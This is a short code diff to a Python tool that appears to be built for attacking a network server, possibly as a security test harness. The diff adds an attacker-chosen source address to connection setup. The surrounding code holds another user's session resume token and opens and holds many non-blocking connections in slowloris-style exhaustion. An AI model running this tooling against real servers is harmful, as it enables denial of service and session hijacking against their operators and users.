@@ -40,13 +40,20 @@ class Target:
     resume_token: str = ""
     """Of another user's session."""
     host: str = "127.0.0.1"
+    source: str = ""
+    """The attacker's own address; empty for the usual one."""
 
 
 @contextmanager
 def connected(target: Target) -> Iterator[socket.socket]:
     """Open a connection for the block."""
-    with socket.create_connection((target.host, target.port), TIMEOUT_S) as stream:
+    with opened(target) as stream:
         yield stream
+
+
+def opened(target: Target) -> socket.socket:
+    """Open a connection; raises ``OSError``."""
+    return socket.create_connection((target.host, target.port), TIMEOUT_S, (target.source, 0))
 
 
 def told(stream: socket.socket) -> str:
@@ -144,7 +151,7 @@ def _held(target: Target, count: int, drip: bytes) -> Ends:
     try:
         for _ in range(count):
             try:
-                stream = socket.create_connection((target.host, target.port), TIMEOUT_S)
+                stream = opened(target)
                 stream.setblocking(False)
                 open_ones.append(stream)
             except OSError:
